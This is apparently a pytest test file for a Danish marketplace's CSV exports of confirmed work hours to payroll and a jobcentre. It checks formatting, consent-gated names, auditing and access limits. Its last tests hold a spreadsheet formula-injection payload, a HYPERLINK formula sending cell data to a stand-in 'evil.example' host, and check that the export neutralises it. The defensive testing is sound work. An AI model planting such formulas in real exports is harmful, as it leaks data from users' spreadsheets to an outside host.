"""CSV exports of confirmed hours: for the company's payroll and for the jobcentre, readable
by Danish Excel (semicolons, decimal comma, UTF-8 with a byte-order mark), streamed."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from sqlalchemy import func, select

from marketplace.agreements.terms import versions_of
from marketplace.extensions import db
from marketplace.hours import ledger as hours
from marketplace.models import (
    AccessLogEntry,
    CandidateIdentity,
    ConsentMethod,
    HourKind,
    Role,
)
from marketplace.privacy import disclosure
from tests.factories import MONDAY, confirm
from tests.html_forms import error_ids

START, END = MONDAY - timedelta(days=7), MONDAY + timedelta(days=6)


@pytest.fixture
def confirmed_placement(placement, employer):
    """The shared placement (paid hours since MONDAY) with MONDAY's week confirmed as planned
    (Tuesday 3, Thursday 3), committed."""
    confirm(placement, employer)
    db.session.commit()
    return placement


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())  # the BOM that makes Excel read UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def company_export(client, start=START, end=END):
    return client.get(f"/company/hours/export?start={start.isoformat()}&end={end.isoformat()}")


def test_the_company_export_is_for_danish_excel_and_streamed(
    client, login, employer, confirmed_placement
):
    login(employer)
    response = company_export(client)
    assert response.is_streamed
    rows = rows_of(response)
    assert rows[0] == ["Dato", "Person", "Slags", "Timer", "Timeløn"]
    pseudonym = disclosure.pseudonym(
        confirmed_placement.candidate_id, confirmed_placement.company_id
    )
    wage = format(Decimal(confirmed_placement.job.hourly_wage).normalize(), "f").replace(".", ",")
    assert rows[1:] == [
        [(MONDAY + timedelta(days=1)).isoformat(), pseudonym, "Lønnede timer", "3", wage],
        [(MONDAY + timedelta(days=3)).isoformat(), pseudonym, "Lønnede timer", "3", wage],
    ]


def test_a_corrected_day_is_exported_once_with_its_new_figure(
    client, login, employer, confirmed_placement
):
    tuesday = MONDAY + timedelta(days=1)
    hours.correct(
        confirmed_placement,
        employer,
        tuesday,
        HourKind.PAID,
        Decimal("2.5"),
        "Gik tidligt",
        versions_of(confirmed_placement.id),
    )
    db.session.commit()
    login(employer)
    rows = rows_of(company_export(client))
    assert [(r[0], r[3]) for r in rows[1:]] == [
        (tuesday.isoformat(), "2,5"),
        ((MONDAY + timedelta(days=3)).isoformat(), "3"),
    ]


def test_the_name_shows_only_with_consent_and_is_audited(
    client, login, employer, consultant, confirmed_placement
):
    disclosure.record_consent(confirmed_placement.proposal, consultant, ConsentMethod.IN_PERSON)
    db.session.commit()
    views = db.session.scalar(select(func.count(AccessLogEntry.id)))
    login(employer)
    rows = rows_of(company_export(client))
    name = rows[1][1]
    assert not name.startswith("Kandidat")
    assert db.session.scalar(select(func.count(AccessLogEntry.id))) == views + 1


def test_the_period_filters_and_other_companies_see_nothing(
    app, client, login, employer, confirmed_placement, make_company, make_user
):
    login(employer)
    assert rows_of(company_export(client, START, MONDAY)) == [
        ["Dato", "Person", "Slags", "Timer", "Timeløn"]
    ]
    stranger = make_user(make_company(name="Andet Firma"))
    other = app.test_client()
    login(stranger, via=other)
    assert len(rows_of(company_export(other))) == 1  # the header only


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ("start=2026-12-01&end=2026-11-01", "end"),
        ("start=2020-01-01&end=2026-01-01", "end"),
        ("start=nonsense&end=2026-01-01", "start"),
        ("start=&end=", "start"),
    ],
)
def test_a_bad_period_is_refused_beside_the_field(client, login, employer, query, field):
    login(employer)
    response = client.get(f"/company/hours/export?{query}")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/html")
    assert field in error_ids(response)


def test_the_jobcentre_export_has_case_reference_and_cvr(
    app, client, login, consultant, confirmed_placement, make_jobcentre, make_user
):
    login(consultant)
    response = client.get(
        f"/jobcentre/hours/export?start={START.isoformat()}&end={END.isoformat()}"
    )
    rows = rows_of(response)
    assert rows[0] == ["Sagsnummer", "Dato", "Slags", "Timer", "Virksomhedens CVR"]
    assert len(rows) == 3
    assert all(
        r[4] == confirmed_placement.company.cvr and r[2] == "Lønnede timer" for r in rows[1:]
    )
    other = app.test_client()
    login(make_user(make_jobcentre(municipality_code=657), role=Role.CONSULTANT), via=other)
    assert (
        len(
            rows_of(
                other.get(
                    f"/jobcentre/hours/export?start={START.isoformat()}&end={END.isoformat()}"
                )
            )
        )
        == 1
    )


# -- Cells a spreadsheet would run as formulas ---------------------------------------------


def test_a_name_typed_as_a_formula_reaches_payroll_as_text(
    client, login, employer, consultant, confirmed_placement
):
    formula = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'
    db.session.get(CandidateIdentity, confirmed_placement.candidate_id).full_name = formula
    disclosure.record_consent(confirmed_placement.proposal, consultant, ConsentMethod.IN_PERSON)
    db.session.commit()
    login(employer)
    rows = rows_of(company_export(client))
    assert {r[1] for r in rows[1:]} == {"'" + formula}
    assert [r[3] for r in rows[1:]] == ["3", "3"]  # the hours are still numbers


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_case_reference_that_begins_a_formula_reaches_the_jobcentre_as_text(
    client, login, consultant, confirmed_placement, start
):
    reference = f"{start}45-2026"
    db.session.get(CandidateIdentity, confirmed_placement.candidate_id).case_reference = reference
    db.session.commit()
    login(consultant)
    rows = rows_of(
        client.get(f"/jobcentre/hours/export?start={START.isoformat()}&end={END.isoformat()}")
    )
    assert [r[0] for r in rows[1:]] == ["'" + reference] * 2
    assert [r[3] for r in rows[1:]] == ["3", "3"]
